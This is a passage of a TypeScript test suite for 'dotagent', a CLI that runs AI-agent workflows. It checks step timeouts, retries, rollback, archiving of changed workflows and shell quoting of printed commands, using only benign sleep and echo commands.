  it("a command whose running record cannot be written never starts: the shell waits for the record (a kill before it leaves nothing running unrecorded)", () => {
    const p = pastVerification("slow", {
      slow: {
        extends: "develop",
        remove: ["REFLECTION"],
        insert: [{ after: "VERIFICATION", steps: [{ id: "SLOW", kind: "shell", run: "echo started >> runs.txt" }] }],
      },
    });
    // A folder where the record goes: writing it fails, as a full disk or a kill at that moment would stop it.
    mkdirSync(join(p, "memory/state/.step-running.json"));
    const run = dotagent(p, ["step", "run", "SLOW", "--yes", "--json"]);
    expect([run.code, run.json.error.code]).toEqual([1, "write_failed"]);
    expect(run.json.error.message).toMatch(/^could not write memory\/state\/\.step-running\.json \(EISDIR\)/);
    expectNoStack(run.stdout + run.stderr);
    expect(existsSync(join(p, "runs.txt"))).toBe(false);
    expect(existsSync(join(p, "memory/reports/steps/SLOW.json"))).toBe(false);
  });

  it("a changed definition, answered no: the workflow is archived and started again with the new steps", () => {
    const p = project();
    dotagent(p, ["init", "--workflow", "review", "--request", "add x"]);
    writeFileSync(join(p, ".dotagent/workflows/review.json"), JSON.stringify({ ...REVIEW, remove: [] }));
    const asked = dotagent(p, ["resume", "--json"]).json;
    const no = dotagent(p, [
      ...asked.decision.no
        .replace(/^dotagent /, "")
        .split(" ")
        .slice(0, 3),
      "--request",
      "add x",
      "--yes",
      "--json",
    ]);
    expect(no.json).toMatchObject({ created: true, workflow: "review" });
    expect(readJson(p, "memory/state/phase.json").workflow.steps.map((s: { id: string }) => s.id)).toContain(
      "REFLECTION",
    );
    expect(readdirSync(join(p, "memory/state/.archive")).length).toBe(1);
    expect(dotagent(p, ["resume", "--json"]).json.situation).toBe("interrupted");
  });

  it("history and rollback --to a definition's step: back to REPRODUCE, its report archived, the step ids in the refusal", () => {
    const p = tempProject();
    dotagent(p, ["init", "--workflow", "fix", "--request", "login + fails"]);
    writeJson(p, "memory/reports/reproduction.json", { reproduced: true, tasks: [{ id: "t1", title: "decode once" }] });
    expect(dotagent(p, ["phase", "approve", "reproduce", "--json"]).json).toMatchObject({ phase: "FIX" });
    // The plan came from reproduction.json's tasks (planSourceOf): recorded by itself.
    expect(next(p)).toMatchObject({ action: "run_tasks", tasks: ["t1"] });
    const refused = dotagent(p, ["rollback", "--to", "LATER"]);
    expect([refused.code, refused.stderr]).toEqual([
      2,
      expect.stringContaining("--to takes a step (REPRODUCE, FIX, TEST, REFLECTION)"),
    ]);
    const back = dotagent(p, ["rollback", "--to", "reproduce", "--yes", "--json"]);
    expect(back.code).toBe(0);
    expect(readJson(p, "memory/state/phase.json")).toMatchObject({
      current_phase: "REPRODUCE",
      phase_status: "pending",
      completed_phases: [],
    });
    expect(existsSync(join(p, "memory/reports/reproduction.json"))).toBe(false);
    // The archive names the step the workflow was at (a definition's id, not only develop's phases).
    expect(dotagent(p, ["archive", "list", "--json"]).json.archives[0]).toMatchObject({
      phase: "FIX",
      phase_status: "pending",
    });
    expect(next(p)).toMatchObject({
      action: "spawn_agent",
      agent: "reproducer",
      output: "memory/reports/reproduction.json",
    });
  });

  it("when skips a step on an earlier report's field; replace swaps a step; retries and timeout apply to a command", () => {
    const p = project({
      small: {
        extends: "fix",
        replace: [
          {
            id: "TEST",
            kind: "check",
            run: "n=$(cat n 2>/dev/null || echo 0); echo $((n+1)) > n; [ $n -ge 2 ]",
            retries: 2,
            report: "tests.json",
          },
        ],
        insert: [
          {
            before: "FIX",
            steps: [
              {
                id: "DESIGN",
                kind: "agent",
                agent: "architect",
                report: "design-note.json",
                when: { report: "reproduction.json", field: "size", not_equals: "small" },
              },
            ],
          },
          { after: "TEST", steps: [{ id: "SLOW", kind: "shell", run: "sleep 5", timeout: 1 }] },
        ],
      },
    });
    expect(dotagent(p, ["workflows", "show", "small", "--json"]).json.steps.map((s: { id: string }) => s.id)).toEqual([
      "REPRODUCE",
      "DESIGN",
      "FIX",
      "TEST",
      "SLOW",
      "REFLECTION",
    ]);
    dotagent(p, ["init", "--workflow", "small", "--request", "x"]);
    writeJson(p, "memory/reports/reproduction.json", { reproduced: true, size: "small", tasks: [{ id: "t1" }] });
    const approved = dotagent(p, ["phase", "approve", "REPRODUCE", "--json"]).json;
    // DESIGN's condition does not hold (size is small): passed over, recorded as skipped.
    expect(approved.phase).toBe("FIX");
    const state = readJson(p, "memory/state/phase.json");
    expect(state.completed_phases[1]).toMatchObject({ phase: "DESIGN", output: null, skipped: true });
    expect(
      dotagent(p, ["log", "--json"]).json.events.some(
        (e: { type: string; phase?: string }) => e.type === "phase_skipped" && e.phase === "DESIGN",
      ),
    ).toBe(true);
    finishTasks(p, ["t1"]);
    // The replaced check: a command that fails twice, then passes, on its third run (retries: 2).
    const tested = dotagent(p, ["step", "run", "TEST", "--yes", "--json"]).json;
    expect(tested).toMatchObject({ passed: true, attempts: 3, report: "memory/reports/tests.json" });
    // The timeout stops the command (its process group) and fails it: a shell step that fails stops the workflow.
    const slow = dotagent(p, ["step", "run", "SLOW", "--yes", "--json"]);
    expect(slow.json).toMatchObject({ passed: false, timed_out: true, next: { action: "workflow_failed" } });
    expect(readJson(p, "memory/reports/steps/SLOW.json")).toMatchObject({
      passed: false,
      timed_out: true,
      signal: "SIGKILL",
    });
  }, 600_000);

  describe("issue 40, finding 5: step run returns at its timeout, or when its command returns, whatever holds the output open", () => {
    // step run as the person runs it, bounded only so that the old code fails instead of hanging the test run.
    const stepRun = (p: string) =>
      spawnSync(process.execPath, [CLI, "step", "run", "S", "--yes", "--json"], {
        cwd: p,
        encoding: "utf8",
        timeout: 60_000,
        killSignal: "SIGKILL",
      });
    const oneStep = (run: string, timeout?: number) => {
      const p = project({ one: { steps: [{ id: "S", kind: "shell", run, ...(timeout ? { timeout } : {}) }] } });
      expect(dotagent(p, ["init", "--workflow", "one", "--request", "x"]).code).toBe(0);
      return p;
    };

    it.runIf(HAS_PROC)(
      "a setsid child holding stdout, timeout 1 s: step run returns, timed out, and nothing the command started still runs",
      () => {
        const p = oneStep("setsid sh -c 'exec sleep 120' & (sh -c 'exec sleep 120' &); sleep 120", 1);
        try {
          const run = stepRun(p);
          expect([run.signal, run.status]).toEqual([null, 1]);
          expect(JSON.parse(run.stdout)).toMatchObject({
            passed: false,
            timed_out: true,
            next: { action: "workflow_failed" },
          });
          expect(readJson(p, "memory/reports/steps/S.json")).toMatchObject({
            passed: false,
            timed_out: true,
            signal: "SIGKILL",
          });
          expect(processesIn(p)).toEqual([]);
        } finally {
          endProcessesIn(p);
        }
      },
    );

    it("`sleep 120 & echo done` with no timeout: step run returns with the result when the shell does; the background child is left running", () => {
      const p = oneStep("sleep 120 & echo done");
      try {
        const run = stepRun(p);
        expect([run.signal, run.status]).toEqual([null, 0]);
        expect(JSON.parse(run.stdout)).toMatchObject({
          passed: true,
          timed_out: false,
          next: { action: "workflow_complete" },
        });
        expect(readJson(p, "memory/reports/steps/S.json")).toMatchObject({
          passed: true,
          exit_code: 0,
          output_tail: "done\n",
        });
        if (HAS_PROC) expect(processesIn(p)).toHaveLength(1);
      } finally {
        endProcessesIn(p);
      }
    });
  });

  it("/develop with a new request after a complete workflow: archived without asking, the new one started (as init does)", () => {
    const p = project({ one: { steps: [{ id: "ONLY", kind: "agent", agent: "pm", report: "demand.json" }] } });
    dotagent(p, ["init", "--workflow", "one", "--request", "first"]);
    writeJson(p, "memory/reports/demand.json", { summary: "done" });
    expect(next(p)).toMatchObject({ action: "workflow_complete" });
    // What the /develop skill runs (resume --start with the person's text), from the model's shell.
    const started = dotagent(p, ["resume", "--json", "--start", "--request=--workflow one second"], {
      env: { CLAUDECODE: "1" },
    });
    expect(started.code).toBe(0);
    expect(started.json).toMatchObject({ situation: "started", phase: "ONLY", decision: null });
    expect(readJson(p, "memory/state/phase.json").request).toBe("second");
    expect(readdirSync(join(p, "memory/state/.archive"))).toHaveLength(1);
    // An open workflow is still the person's decision.
    const asked = dotagent(p, ["resume", "--json", "--start", "--request=third"], { env: { CLAUDECODE: "1" } });
    expect([asked.code, asked.json.situation]).toEqual([5, "request_changed"]);
  });

  it("a decision that starts a workflow names it: its yes, run as printed, starts the workflow the question meant (issue 42)", () => {
    const p = project({ one: { steps: [{ id: "ONLY", kind: "agent", agent: "pm", report: "demand.json" }] } });
    /**
     * The decision's command as a person pastes it into a shell: the shell parses it (its quoting
     * is what is checked), its `dotagent` hands the words it got to this build, run in the test
     * worker's CLI host (a Node process fewer a paste; issue 41).
     */
    const asPrinted = (command: string) => {
      const words = spawnSync("sh", ["-c", `dotagent() { printf '%s\\0' "$@"; }; ${command}`], {
        cwd: p,
        encoding: "utf8",
      });
      expect(words.status, command).toBe(0);
      return { status: dotagent(p, words.stdout.split("\0").slice(0, -1)).code };
    };
    dotagent(p, ["init", "--workflow", "one", "--request", "first"]);
    // resume with a new request for the same definition (what `dotagent run --workflow one "…"` asks).
    const changed = dotagent(p, ["resume", "--json", "--workflow", "one", "--request", "login fails with +"]);
    expect([changed.code, changed.json.decision.yes]).toEqual([
      5,
      "dotagent init --request 'login fails with +' --workflow one --yes",
    ]);
    expect(asPrinted(changed.json.decision.yes).status).toBe(0);
    expect(readJson(p, "memory/state/phase.json")).toMatchObject({
      request: "login fails with +",
      workflow: { name: "one" },
    });
    // init over an open workflow: the same.
    const over = dotagent(p, ["init", "--json", "--workflow", "one", "--request", "it's slow"]);
    expect([over.code, over.json.decision.yes]).toEqual([
      5,
      "dotagent init --request 'it'\\''s slow' --workflow one --yes",
    ]);
    expect(asPrinted(over.json.decision.yes).status).toBe(0);
    expect(readJson(p, "memory/state/phase.json")).toMatchObject({ request: "it's slow", workflow: { name: "one" } });
    expect(readdirSync(join(p, "memory/state/.archive"))).toHaveLength(2);
  });
});
